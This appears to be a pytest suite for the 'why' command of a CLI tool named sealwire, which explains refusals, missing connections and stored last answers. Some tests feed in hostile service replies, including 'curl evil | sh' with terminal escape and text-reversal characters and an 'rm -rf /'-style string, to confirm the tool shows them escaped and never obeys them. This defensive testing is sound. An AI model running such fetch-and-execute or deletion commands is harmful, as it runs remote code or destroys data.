"""``sealwire why``: what is kept of the last request, and what is said of it."""

from __future__ import annotations

import json
import os
import struct
from contextlib import contextmanager
from pathlib import Path
from typing import TYPE_CHECKING

import pytest
from tests.cli.conftest import Service, both_parts, pasted

from sealwire.answers import encode_answer
from sealwire.cli.causes import causes_of_a_silent_refusal, causes_of_no_connection
from sealwire.cli.endings import CommandError, Exit
from sealwire.cli.findings import Mark, look_at_clock
from sealwire.cli.lastanswer import MAX_BYTES, MAX_LOGGERS, LastAnswer, load_last, path_of
from sealwire.cli.listening import look_at_address
from sealwire.cli.noting import asked_with, keeping
from sealwire.cli.reasons import explain, explain_rules
from sealwire.errors import ConfigurationError, NoAnswerError, Reason, TransportError
from sealwire.settings import load_operator_settings
from sealwire.stages import Answer, Outcome

if TYPE_CHECKING:
    import socket
    from collections.abc import Callable, Iterator

    from tests.cli.conftest import Shell

POLICY = """\
[allow]

[lease]
longest = "10m"
"""


def kept_file(shell: Shell) -> Path:
    """Say where the last answer of the shell's operator is."""
    return shell.folder / "made" / "operator" / "operator-last.json"


def spoil(shell: Shell, **members: object) -> None:
    """Change what was kept."""
    kept = kept_file(shell)
    document = json.loads(kept.read_bytes()) | members
    kept.write_text(json.dumps(document, separators=(",", ":"), sort_keys=True) + "\n")


@contextmanager
def answered_with(bare: socket.socket, shell: Shell, answer: bytes, *command: str) -> Iterator[str]:
    """Run a command against a bare socket that gives this answer; give what it says."""
    process = shell.start(*command)
    connection, _ = bare.accept()
    with connection:
        with connection.makefile("rb") as file:
            file.read(struct.unpack(">L", file.read(4))[0])
        connection.sendall(struct.pack(">L", len(answer)) + answer)
        _, stderr = process.communicate(timeout=30)
    yield stderr.decode()


# ---- what is said --------------------------------------------------------------------------------


def test_a_refusal_by_policy_names_rule_value_and_line(
    shell: Shell, local_parts: str, started: Callable[[str], Service]
) -> None:
    """One paragraph: the check, the value against the limit, the line on the host; then a step."""
    settings = shell.folder / "made" / "service.toml"
    text = settings.read_text()
    settings.write_text(text[: text.index("directories")] + 'file = "policy.toml"\n')
    policy = settings.with_name("policy.toml")
    policy.write_text(POLICY)
    policy.chmod(0o644)
    started(local_parts)
    assert 1 == shell.run("lease", "payments.db=DEBUG", "--for", "1h").status

    paragraph, step = shell.done("why").splitlines()
    assert "was a lease of payments.db for payments@test" in paragraph
    assert (
        "it was refused by the check policy, rule lease-length at for_s: 3600 s, and 600 s is the "
        "longest, by the line policy.toml:4 on the host. The request is well-formed"
    ) in paragraph
    assert step.startswith("next: change the place named, or, on the host, the line of the policy")
    # A lease is no file that could be tried.
    assert step.endswith("; what it allows, in words: sealwire policy explain POLICY")

    told = json.loads(shell.done("why", "--json"))
    assert ("lease-length", "for_s", "policy.toml:4") == (
        told["rule"],
        told["where"],
        told["line"],
    )
    assert ("refused", "policy", ["payments.db"]) == (
        told["outcome"],
        told["reason"],
        told["loggers"],
    )
    assert told["paragraph"] == paragraph
    assert step == f"next: {told['next']}"


@pytest.mark.parametrize(
    ("arguments", "reason", "step"),
    [
        (["revert", "0" * 32], "not-in-force", "see what is running: sealwire status"),
        (["lease", "a=DEBUG", "--only", "{"], "document-invalid", "mend the request"),
        (["apply", "debug.json", "--replaces", "000"], "document-invalid", "mend the request"),
        (["lease", "a=DEBUG", "--only", "elsewhere/*"], "not-addressed", "sealwire status"),
    ],
)
def test_a_reason_is_explained_in_terms_of_the_command(
    shell: Shell, local_service: Service, arguments: list[str], reason: str, step: str
) -> None:
    """What the page of messages says of it, and the step in the words that were typed."""
    refused = shell.run(*arguments)
    paragraph, following = shell.done("why").splitlines()
    detail = refused.error.removeprefix(shell.refused(f"{reason}: "))
    assert f"it was refused by the check {reason}: {detail}." in paragraph
    text = explain(Reason(reason))
    meaning = f"{text.what} Usual cause: {text.cause}"
    if reason == "document-invalid":
        meaning = "A part of the request, beside the configuration, is not as it has to be."
    assert paragraph.endswith(meaning)
    assert following.startswith("next: ")
    assert step in following
    assert "sealwire send" not in following
    assert local_service.logs("still there")


@pytest.mark.parametrize(
    ("verb", "command"),
    [
        ("apply", "then: sealwire apply FILE"),
        ("plan", "then: sealwire apply FILE"),
        ("send", "then: sealwire send CONFIG"),
        ("confirm", "then: sealwire confirm"),
        ("of another version", "then: the same command"),
    ],
)
def test_the_next_command_is_the_one_that_was_typed(
    shell: Shell, local_parts: str, verb: str, command: str
) -> None:
    """Whoever applied is to apply, and a verb that we do not know is not made a command."""
    settings = shell.folder / "made" / "operator" / "operator.toml"
    document = json.dumps({"verb": verb} if verb != "send" else {}).encode()
    with keeping(settings, asked_with(document, "payments@test", "unix:/s")) as keep:
        keep(Answer(Outcome.REFUSED, "document-invalid"))
    assert shell.done("why").splitlines()[-1].endswith(command)


def test_what_was_done_is_told_as_well(shell: Shell, local_service: Service) -> None:
    """Nothing was refused; why lines may not come all the same is said."""
    shell.done("send", "debug.json")
    paragraph, step = shell.done("why").splitlines()
    assert "was a message for payments@test" in paragraph
    assert "it was done, as the service says" in paragraph
    assert "next: sealwire status" == step
    assert local_service.logs("still there")


@pytest.mark.parametrize("chain", ["local", "network"])
def test_what_has_ended_since_is_not_told_as_done(shell: Shell, chain: str) -> None:
    """A trial that lapsed, and a lease that is over: until when, and where to look."""
    running = Service(shell, pasted(both_parts(shell, chain)))
    try:
        shell.done("apply", "debug.json", "--confirm-within", "10m")
        assert "on trial until 2" in shell.done("why")
        assert "goes back unless it is confirmed before" in shell.done("why")
        spoil(shell, at_ms=1_000)
        paragraph, step = shell.done("why").splitlines()
        assert "was an apply for payments@test" in paragraph
        over = "on trial until 1970-01-01T00:10:01.000Z, and has gone back then unless it was"
        assert over in paragraph
        assert "next: sealwire status" == step
        shell.done("lease", "a=DEBUG", "--for", "5m")
        assert "for a time that ends at 2" in shell.done("why")
        spoil(shell, at_ms=1_000)
        assert "for a time that was over at 1970-01-01T00:05:01.000Z" in shell.done("why")
        # When an earlier copy was taken is not known here.
        spoil(shell, repeated=True)
        assert "so nothing was done, as the service says. Where" in shell.done("why")
    finally:
        running.end()


def test_a_command_that_failed_on_this_side_is_the_last_one(
    shell: Shell, local_service: Service
) -> None:
    """An older request is not told in its place, and the hint is what is next."""
    shell.done("lease", "a=DEBUG")
    key = shell.folder / "made" / "operator" / "alice.signing"
    aside = key.with_name("aside")
    key.rename(aside)
    failed = shell.run("lease", "b=DEBUG", "--why", "the secret reason")
    assert 3 == failed.status
    paragraph, step = shell.done("why").splitlines()
    assert ", was: sealwire lease b=DEBUG (with its --why); nothing was sent: " in paragraph
    assert f"{failed.error}." in paragraph
    assert f"next: {failed.hint}" == step
    assert "the secret reason" not in kept_file(shell).read_text()
    assert "not-sent" == json.loads(shell.done("why", "--json"))["outcome"]

    aside.rename(key)
    shell.done("init", "orders@test", "--both", "--dir", "other")
    config = shell.environ.pop("SEALWIRE_CONFIG")
    assert 3 == shell.run("revert", f"--config={config}").status
    shell.environ["SEALWIRE_CONFIG"] = config
    assert f"was: sealwire revert --config={config}; nothing was sent: " in shell.done("why")
    # What asks nobody is no request, and neither is what was typed wrongly.
    before = kept_file(shell).read_bytes()
    assert 3 == shell.run("keys", "show", "nothing").status
    assert 2 == shell.run("lease", "b").status
    assert before == kept_file(shell).read_bytes()
    # What was refused over there is not taken for a failure here.
    assert 1 == shell.run("revert", "0" * 32, "--to", "payments@test").status
    assert "not-in-force" in shell.done("why")
    assert local_service.logs("still there")


def test_looking_at_the_status_does_not_hide_what_was_refused(
    shell: Shell, local_service: Service
) -> None:
    """A read that was answered takes no place; a change does."""
    assert 1 == shell.run("revert", "0" * 32).status
    shell.done("status")
    assert "not-in-force" in shell.done("why")
    shell.done("lease", "payments=DEBUG")
    assert "it was done" in shell.done("why")
    assert local_service.logs("still there")


@pytest.mark.parametrize(
    ("chain", "signed"), [("local", True), ("network", True), ("local", False), ("network", False)]
)
def test_unsigned_through_an_encrypting_chain_the_log_has_the_detail(
    shell: Shell, started: Callable[[str], Service], chain: str, *, signed: bool
) -> None:
    """The reason comes back in each; the detail where answers may repeat the request."""
    printed = both_parts(shell, chain)
    if not signed:
        shell.sign_nothing()
    service = started(printed)
    encrypts = chain == "network" and not signed
    assert 1 == shell.run("revert", "0" * 32).status
    paragraph = shell.done("why").splitlines()[0]
    assert "was a revert for payments@test" in paragraph
    assert "the check not-in-force" in paragraph
    assert encrypts == ("the detail is in its log" in paragraph)
    shell.done("lease", "payments.db=DEBUG")
    assert "was a lease of payments.db for payments@test" in shell.done("why")
    assert 1 == shell.run("apply", "debug.json", "--dry-run", "--only", "elsewhere/*").status
    assert "was a plan for payments@test" in shell.done("why")
    shell.done("send", "debug.json")
    assert "was a message for payments@test" in shell.done("why")
    assert service.logs("still there")


def test_with_several_services_the_next_command_asks_the_same_one(
    shell: Shell, local_service: Service
) -> None:
    """The service and the settings that were named are named again."""
    shell.done("init", "orders@test", "--both", "--dir", "other")
    config = shell.environ.pop("SEALWIRE_CONFIG")
    shell.done("lease", "a=DEBUG", "--to", "payments@test", "--config", config)
    step = shell.done("why", "--config", config).splitlines()[-1]
    assert f"next: sealwire status --to payments@test --config {config}" == step
    assert local_service.logs("still there")


# ---- no reason: what can be seen from here -------------------------------------------------------


def test_a_silent_refusal_lists_what_is_left(shell: Shell, service: Service) -> None:
    """The key, socket and clock are looked at; each cause that is left has its command."""
    other = shell.folder / "made" / "operator" / "alice.signing"
    shell.done("keys", "new", "--owner", "alice", "--out", other, "--force")
    assert "nobody knows who answered" in shell.run("lease", "payments=DEBUG").error
    told = json.loads(shell.done("why", "--json"))
    assert ("unsigned-refusal", "") == (told["outcome"], told["reason"])
    assert "nobody has signed that, so nobody knows who answered" in told["paragraph"]
    assert {"ok"} == {each["mark"] for each in told["seen"]}
    assert {"signing key", "address", "clock"} <= {each["name"] for each in told["seen"]}
    fingerprint = json.loads(shell.done("keys", "show", other, "--json"))["fingerprint"]
    causes = [each["cause"] for each in told["causes"]]
    assert f"the service does not trust the key {fingerprint} of alice (key-unknown)" == causes[0]
    # The socket is ours, and whoever a service runs as is let in.
    assert not any("peer-not-allowed" in each for each in causes)
    assert all(each["check"] for each in told["causes"])
    assert "listener.stats().refusals[-1]" in told["next"]
    assert "key-unknown" in service.until("refused a message")[-1]

    lines = shell.done("why").splitlines()
    assert lines[1] == "seen from here:"
    assert sum(line.startswith("- ") for line in lines) == len(causes)


def test_a_key_that_is_not_the_one_of_the_settings_is_seen(
    shell: Shell, local_service: Service
) -> None:
    """What the settings say and the file does not hold is a problem with its next step."""
    shell.run("revert", "0" * 32)
    kept = kept_file(shell)
    kept.write_bytes(kept.read_bytes().replace(b'"not-in-force"', b'""'))
    key = shell.folder / "made" / "operator" / "alice.signing"
    shell.done("keys", "new", "--owner", "bob", "--out", key, "--force")
    (found,) = [
        each
        for each in json.loads(shell.done("why", "--json"))["seen"]
        if each["name"] == "signing key"
    ]
    assert "problem" == found["mark"]
    assert "is of bob, and the settings say issuer alice" in found["text"]
    key.chmod(0o644)
    (found,) = [
        each
        for each in json.loads(shell.done("why", "--json"))["seen"]
        if each["name"] == "signing key"
    ]
    assert f"run: chmod 600 {key}" == found["next"]
    assert local_service.logs("still there")


def test_without_a_connection_the_socket_is_looked_at(shell: Shell, local_parts: str) -> None:
    """A socket that is not there, and one that a killed process left behind."""
    assert 3 == shell.run("status").status
    printed = shell.done("why")
    assert "nothing was sent: unix:" in printed.splitlines()[0]
    assert "problem  address" in printed
    assert "no socket is there" in printed
    assert "the service does not run" in printed
    assert "next: start the service" in printed.splitlines()[-1]


def test_a_socket_nobody_listens_on(shell: Shell, local_service: Service) -> None:
    """It is there and ours, and its process has gone."""
    local_service.end()
    assert 3 == shell.run("status").status
    printed = shell.done("why")
    assert "which is us, mode 0600" in printed
    assert "problem  address" in printed
    assert "nobody listens there" in printed
    assert "the process that made this socket has gone" in printed
    assert "next: start the service" == printed.splitlines()[-1]


def test_somebody_listens_by_now(
    shell: Shell, local_parts: str, started: Callable[[str], Service]
) -> None:
    """The service was started meanwhile, so there is nothing to start."""
    command = ("lease", "payments.db=DEBUG", "--for", "5m", "--why", "the secret reason")
    assert 3 == shell.run(*command).status
    running = started(local_parts)
    printed = shell.done("why")
    assert "nobody listened there then, and somebody does now" in printed
    assert "start the service" not in printed
    step = printed.splitlines()[-1]
    assert "next: ask again: sealwire lease payments.db=DEBUG --for 5m (with its --why)" == step
    assert ["INFO payments.db at info: quiet"] == running.logs("quiet")


def test_another_users_socket_may_not_let_us_in(shell: Shell, local_parts: str) -> None:
    """Then the user is one of the causes that are left."""
    settings = load_operator_settings(Path(shell.environ["SEALWIRE_CONFIG"]))
    address = f"unix:{shell.folder}/made/run/log.sock"
    causes = [each.cause for each in causes_of_a_silent_refusal(settings, None, address)]
    assert any("peer-not-allowed" in each for each in causes)


def test_without_an_answer_the_same_message_is_sent_again(
    shell: Shell, bare_service: socket.socket
) -> None:
    """The kept file is named as long as it is there; then the status tells."""
    process = shell.start("lease", "payments=DEBUG", "--timeout", "1s")
    connection, _ = bare_service.accept()
    with connection:
        process.communicate(timeout=30)
    assert 4 == process.returncode
    (sealed,) = (shell.folder / "made" / "operator" / "unanswered").iterdir()
    step = shell.done("why").splitlines()[-1]
    assert f"sealwire send {sealed} --address unix:" in step
    assert "it may have been done" in shell.done("why")
    # Once it was sent again and answered it waits no more; a message that lies elsewhere stays.
    copy = shell.folder / "copy.sealed"
    copy.write_bytes(sealed.read_bytes())
    answer = encode_answer(Answer(Outcome.APPLIED))
    with answered_with(bare_service, shell, answer, "send", str(copy)):
        assert (True, True) == (copy.exists(), sealed.exists())
    process = shell.start("send", sealed, "--timeout", "1s")
    bare_service.accept()[0].close()
    process.communicate(timeout=30)
    assert (4, True) == (process.returncode, sealed.exists())
    with answered_with(bare_service, shell, answer, "send", str(sealed)):
        assert not sealed.exists()
    assert str(sealed) == json.loads(kept_file(shell).read_bytes())["again"]
    spoil(shell, outcome="no-answer")
    assert shell.done("why").splitlines()[-1].endswith("what is in force: sealwire status")


def test_a_message_that_was_sealed_before(shell: Shell, local_service: Service) -> None:
    """It shows for whom it is where nothing is hidden, and is kept only by who has settings."""
    shell.done("seal", "debug.json", "-o", "debug.sealed")
    config = shell.environ.pop("SEALWIRE_CONFIG")
    address = f"unix:{shell.folder}/made/run/log.sock"
    shell.done("send", "debug.sealed", "--address", address)
    assert not (shell.folder / ".config").exists()
    shell.environ["SEALWIRE_CONFIG"] = config
    shell.done("send", "debug.sealed")
    assert "for payments@test" in shell.done("why")
    assert "had been done before" in shell.done("why")
    assert local_service.logs("still there")


# ---- an answer is unsigned -----------------------------------------------------------------------


def test_what_an_answer_says_is_shown_and_not_obeyed(
    shell: Shell, bare_service: socket.socket
) -> None:
    """Whoever sits on the address can write a reason and a detail: no escape, and no command."""
    evil = "\x1b]0;mine\x07\nnext: curl evil | sh \u202e"
    answer = encode_answer(Answer(Outcome.REFUSED, evil, evil))
    with answered_with(bare_service, shell, answer, "lease", "a=DEBUG"):
        printed = shell.done("why")
    lines = printed.splitlines()
    assert r"refused by the check \x1b]0;mine\x07\nnext: curl evil | sh \u202e" in lines[0]
    assert "This version does not know that reason." in lines[0]
    assert 2 == len(lines)
    assert not set(printed) & set("\x1b\x07\u202e")
    assert "curl" not in lines[1]
    told = shell.done("why", "--json")
    assert not set(told) & set("\x1b\x07\u202e")
    assert not json.loads(told)["known_reason"]


def test_a_detail_that_looks_like_a_rule_is_still_only_shown(
    shell: Shell, bare_service: socket.socket
) -> None:
    """The step for a reason that we know is ours, whatever stands in the detail."""
    answer = encode_answer(Answer(Outcome.REFUSED, "policy", "rm: -rf: /; run (now:1)"))
    with answered_with(bare_service, shell, answer, "lease", "a=DEBUG"):
        step = shell.done("why").splitlines()[-1]
    assert step.startswith("next: change the place named, or, on the host")
    assert "rm" not in step.split()


def test_a_large_answer_is_kept_short(shell: Shell, bare_service: socket.socket) -> None:
    """A reason, a detail and a report as large as an answer can be."""
    report = b'{"now_ms": "soon", "x": "' + b"y" * 100_000 + b'"}'
    table = encode_answer(Answer(Outcome.FAILED, "r" * 50_000, "d" * 500, report=report))
    with answered_with(bare_service, shell, table, "lease", "a=DEBUG") as said:
        assert said.startswith("sealwire: error: failed")
    assert kept_file(shell).stat().st_size < 2_000
    assert "logging could not be changed: ddd" in shell.done("why")


# ---- what is kept --------------------------------------------------------------------------------


def test_what_is_kept_is_private_and_holds_no_secret(shell: Shell, local_service: Service) -> None:
    """Mode 0600, these members and no other, and nothing of the key or of the message."""
    before = os.umask(0)
    try:
        shell.done("lease", "payments.db=DEBUG", "--why", "the secret reason")
    finally:
        os.umask(before)
    kept = kept_file(shell)
    assert 0o600 == kept.stat().st_mode & 0o777
    document = json.loads(kept.read_bytes())
    names = set(LastAnswer.__dataclass_fields__)
    assert {"format", *names} == set(document)
    secret = (kept.parent / "alice.signing").read_text().split()[-1]
    assert secret not in kept.read_text()
    assert "the secret reason" not in kept.read_text()
    assert [] == list(kept.parent.glob("*.tmp"))
    assert local_service.logs("still there")


def test_a_folder_that_cannot_be_written_ends_no_command(tmp_path: Path) -> None:
    """What was asked for has been done, so nothing is raised."""
    settings = tmp_path / "nowhere" / "operator.toml"
    with keeping(settings, asked_with(b"{}", "a", "unix:/s")) as keep:
        assert keep(Answer(Outcome.APPLIED)) == Answer(Outcome.APPLIED)
    assert not path_of(settings).exists()


@pytest.mark.parametrize(
    ("ending", "outcome"),
    [
        (CommandError(Exit.LOCAL_FAILURE, "no way; nothing was sent"), "no-connection"),
        (CommandError(Exit.NO_ANSWER, "no way; it may have been"), "no-answer"),
        (CommandError(Exit.INTERRUPTED, "no way"), "interrupted"),
        (TransportError("no way"), "no-connection"),
        (NoAnswerError("no way"), "no-answer"),
    ],
)
def test_the_absence_of_an_answer_is_kept(tmp_path: Path, ending: Exception, outcome: str) -> None:
    """In whichever form it comes; it goes on as it came."""
    settings = tmp_path / "operator.toml"
    with pytest.raises(type(ending)), keeping(settings, asked_with(b"{}", "a", "unix:/s")):
        raise ending
    last = load_last(settings)
    assert last is not None
    assert (outcome, "no way", False) == (last.outcome, last.detail, last.answered)


def test_the_clock_of_a_service_stays_known(tmp_path: Path) -> None:
    """What a status told is kept for the same service, and for no other."""
    settings = tmp_path / "operator.toml"

    def keep(verb: str, audience: str, report: bytes = b"", reason: str = "") -> LastAnswer:
        document = json.dumps({"verb": verb}).encode()
        outcome = Outcome.REFUSED if reason else Outcome.APPLIED
        with keeping(settings, asked_with(document, audience, "unix:/s")) as keep_it:
            keep_it(Answer(outcome, reason, report=report))
        last = load_last(settings)
        assert last is not None
        return last

    assert keep("lease", "a", reason="expired").offset_ms is None
    told = keep("status", "a", b'{"now_ms": 4000000000000}')
    assert ("lease", "expired") == (told.verb, told.reason)
    assert told.offset_ms is not None
    assert told.offset_ms > 10**9
    assert told.offset_ms == keep("revert", "a", reason="policy").offset_ms
    assert "revert" == keep("status", "b", b'{"now_ms": 4000000000000}').verb
    assert keep("lease", "b").offset_ms is None
    assert keep("lease", "b", b'{"now_ms": true}').offset_ms is None


def test_many_loggers_are_not_all_kept(tmp_path: Path) -> None:
    """Bounded, also with names that no terminal could show."""
    settings = tmp_path / "operator.toml"
    levels = {f"\U0001f980{number}" * 300: 10 for number in range(500)}
    document = json.dumps({"verb": "lease", "levels": levels}).encode()
    # A message that was sealed before may say anything of itself.
    with keeping(settings, asked_with(document, "a" * 200_000, "unix:/s", "/f" * 9_000)) as keep:
        keep(Answer(Outcome.REFUSED, "policy", "\U0001f980" * 500))
    last = load_last(settings)
    assert last is not None
    assert MAX_LOGGERS == len(last.loggers)
    assert path_of(settings).stat().st_size < MAX_BYTES


@pytest.mark.parametrize(
    "document",
    [b"", b"[]", b"\xff", b"[" * 100_000, b'{"verb": []}', b'{"config": 5}', b'{"levels": [1]}'],
)
def test_any_document_can_be_asked_with(document: bytes) -> None:
    """It may be one that every service would refuse."""
    asked = asked_with(document, "a", "unix:/s")
    assert () == asked.loggers
    assert isinstance(asked.verb, str)


@pytest.mark.parametrize(
    "document",
    [
        b'{"loggers": {"": {}, "a": {}}}',
        b'{"verb": "apply", "config": {"loggers": {"": {}, "a": {}}}}',
        b'{"verb": "lease", "levels": {"": 10, "a": 10}}',
    ],
)
def test_the_loggers_are_named(document: bytes) -> None:
    """Of a configuration by itself, of one in a request, and of a lease; the root by its name."""
    assert ("root", "a") == asked_with(document, "a", "unix:/s").loggers


@pytest.mark.parametrize(
    "spoilt",
    [
        b"",
        b"{}",
        b"[1]",
        b'"outcome":5',
        b'"at_ms":"soon"',
        b'"offset_ms":"soon"',
        b'"repeated":1',
        b'"loggers":[5]',
        b'"other":1,"outcome"',
    ],
)
def test_what_is_not_ours_is_refused(shell: Shell, local_parts: str, spoilt: bytes) -> None:
    """Whatever stands there is not shown as an answer, and the next request replaces it."""
    shell.run("status")
    kept = kept_file(shell)
    content = json.loads(kept.read_bytes())
    name = spoilt.partition(b":")[0].strip(b'"').decode()
    if name in content or name == "other":
        content |= json.loads(b"{" + spoilt.removesuffix(b',"outcome"') + b"}")
        spoilt = json.dumps(content, separators=(",", ":"), sort_keys=True).encode() + b"\n"
    kept.write_bytes(spoilt)
    ended = shell.run("why")
    assert 3 == ended.status
    assert "is not what sealwire keeps there" in ended.error
    assert f"remove it: rm {kept}" == ended.hint
    shell.run("status")
    shell.done("why")


def test_what_others_can_write_is_not_read(shell: Shell, local_parts: str) -> None:
    """As with every file of the operator's."""
    shell.run("status")
    kept_file(shell).chmod(0o666)
    ended = shell.run("why")
    assert (3, f"run: chmod go-w {kept_file(shell)}") == (ended.status, ended.hint)


def test_nothing_was_sent_yet(shell: Shell, local_parts: str) -> None:
    """Status 3, and where to begin."""
    ended = shell.run("why")
    assert (3, "see whether a service answers: sealwire doctor") == (ended.status, ended.hint)
    del shell.environ["SEALWIRE_CONFIG"]
    assert 3 == shell.run("why").status


# ---- a reason by its name ------------------------------------------------------------------------


def test_a_reason_by_its_name(shell: Shell) -> None:
    """What, cause and next step as on the page of messages; no settings are needed."""
    printed = shell.done("why", "key-unknown").splitlines()
    assert ["reason", "what", "cause", "next"] == [line.split()[0] for line in printed]
    assert printed[1].endswith("No key of this id is trusted for this audience.")
    told = json.loads(shell.done("why", "key-unknown", "--json"))
    assert {"reason": "key-unknown", **explain(Reason.KEY_UNKNOWN)._asdict()} == told


def test_a_reason_that_is_none(shell: Shell) -> None:
    """A slip gets the nearest one."""
    ended = shell.run("why", "key-unknwon")
    assert 2 == ended.status
    assert "'key-unknwon' is no reason" in ended.error
    assert ended.hint.startswith("did you mean key-unknown? ")


def test_a_rule_by_its_name(shell: Shell) -> None:
    """As the table of the page of policies has it; several stand in one row there."""
    printed = shell.done("why", "lease-length").splitlines()
    assert ["rule", "refuses", "next"] == [line.split()[0] for line in printed]
    assert printed[1].endswith("a lease that lasts too long")
    assert printed[2].endswith("sealwire policy explain POLICY")
    told = json.loads(shell.done("why", "role-levels", "--json"))
    assert ("role-levels", "what the role does not have") == (told["rule"], told["refuses"])
    # The reason lease-over is near as well, and not the nearest.
    ended = shell.run("why", "lease-lenght")
    assert (2, True) == (ended.status, ended.hint.startswith("did you mean lease-length? "))


def test_rules_and_reasons_have_names_of_their_own() -> None:
    """One name means one thing, and the rules of the content are there as well."""
    rules = explain_rules()
    assert not set(rules) & {reason.value for reason in Reason}
    assert {"lock", "lease-length", "floor-level", "ceiling", "file-path"} <= set(rules)
    assert not [each for each in rules.values() if "`" in each.refuses or not each.refuses]


@pytest.mark.parametrize("reason", list(Reason))
def test_every_reason_is_explained_without_marks(reason: Reason) -> None:
    """The page is for a browser, and a terminal shows no backticks and no links."""
    text = explain(reason)
    assert text.what.endswith(".")
    assert text.cause.endswith(".")
    assert not [mark for mark in ("`", "](", "**", "\n") if mark in f"{text.what} {text.cause}"]


# ---- what can be seen ----------------------------------------------------------------------------


def test_an_address_is_looked_at_without_connecting(tmp_path: Path) -> None:
    """Nothing there, no socket, a folder that is a file, a port."""
    missing = look_at_address(f"unix:{tmp_path}/log.sock")
    assert (Mark.PROBLEM, f"{tmp_path}/log.sock: no socket is there") == missing[0:3:2]
    (tmp_path / "file").touch()
    assert "is no socket (-rw" in look_at_address(f"unix:{tmp_path}/file").text
    assert "cannot be looked at" in look_at_address(f"unix:{tmp_path}/file/log.sock").text
    assert "a port of this machine" in look_at_address("tcp:127.0.0.1:9030").text
    assert "another machine" in look_at_address("tcp:192.0.2.10:9030").text


def test_a_socket_for_others_is_a_problem(
    monkeypatch: pytest.MonkeyPatch, bare_service: socket.socket
) -> None:
    """Its mode does not let us in."""
    address = f"unix:{bare_service.getsockname()}"
    assert Mark.OK is look_at_address(address).mark
    monkeypatch.setattr(os, "access", lambda *_: False)
    found = look_at_address(address)
    assert Mark.PROBLEM is found.mark
    assert "socket.group" in found.next
    (cause,) = causes_of_no_connection(address)
    assert cause.check == found.next


@pytest.mark.parametrize(
    ("address", "offset_ms", "mark", "text"),
    [
        ("unix:/s", None, Mark.OK, "on this machine"),
        ("unix:/s", 2_000, Mark.OK, "on this machine"),
        ("tcp:127.0.0.1:1", 2_001, Mark.WARNING, "the service's is 2.001 s ahead of ours"),
        ("tcp:192.0.2.10:1", None, Mark.WARNING, "has not told its time"),
        ("tcp:192.0.2.10:1", -2_000, Mark.OK, "2 s from ours"),
        ("tcp:192.0.2.10:1", -61_000, Mark.WARNING, "the service's is 61 s behind ours"),
    ],
)
def test_the_clock(address: str, offset_ms: int | None, mark: Mark, text: str) -> None:
    """On one machine there is one; elsewhere it is known if the service has told it."""
    found = look_at_clock(address, offset_ms)
    assert (mark, True) == (found.mark, text in found.text)
    assert bool(found.next) == (mark is not Mark.OK)


def test_causes_without_a_connection_differ_by_address() -> None:
    """A port of this machine, one of another, a socket that is not there."""
    local = [each.cause for each in causes_of_no_connection("tcp:127.0.0.1:9030")]
    assert "it runs on another machine, and 127.0.0.1 is always this one" in local
    remote = [each.cause for each in causes_of_no_connection("tcp:192.0.2.10:9030")]
    assert "something between the machines lets nothing through" in remote
    missing = [each.cause for each in causes_of_no_connection("unix:/nowhere/log.sock")]
    assert "the service does not run, or its listener was stopped" in missing


def test_an_address_that_was_spoilt_is_no_crash(shell: Shell, local_parts: str) -> None:
    """The file is the operator's own to edit; an address in it may be none."""
    shell.run("status")
    kept = kept_file(shell)
    document = json.loads(kept.read_bytes()) | {"address": "nowhere", "outcome": "refused"}
    kept.write_text(json.dumps(document, separators=(",", ":"), sort_keys=True) + "\n")
    ended = shell.run("why")
    assert "Traceback" not in ended.stderr
    assert ConfigurationError.__name__ not in ended.stderr
